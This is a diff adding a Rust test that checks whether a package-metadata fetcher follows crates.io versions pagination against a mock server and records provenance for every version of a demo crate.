+fn crates_io_versions_pages_are_followed() {
+    let server = Server::start(|req: &Request| {
+        let all: serde_json::Value =
+            serde_json::from_slice(&fixture("crates.io/api/chainward-demo/versions.json")).unwrap();
+        let versions = all["versions"].as_array().unwrap();
+        match req.path.as_str() {
+            "/api/v1/crates/chainward-demo/versions" => Reply::json(
+                serde_json::json!({"versions": &versions[..3], "meta": {"total": 5, "next_page": "?per_page=3&seek=Wzk5OV0"}})
+                    .to_string(),
+            ),
+            "/api/v1/crates/chainward-demo/versions?per_page=3&seek=Wzk5OV0" => Reply::json(
+                serde_json::json!({"versions": &versions[3..], "meta": {"total": 5, "next_page": null}}).to_string(),
+            ),
+            _ => registries(req),
+        }
+    });
+    let cache = tempfile::tempdir().unwrap();
+    let fetched =
+        fetch(&config(&server.url, cache.path()), &[wanted(Ecosystem::Cargo, "chainward-demo", &["0.3.1"])], &all);
+    assert!(fetched.failures.is_empty(), "{:?}", fetched.failures);
+    let meta = package(&fetched, Ecosystem::Cargo, "chainward-demo");
+    assert!(meta.detailed);
+    assert!(meta.versions.iter().all(|v| v.provenance.is_some()), "{:?}", meta.versions);
+    assert_eq!(server.requests_to("/api/v1/crates/chainward-demo/versions").len(), 2);
+}
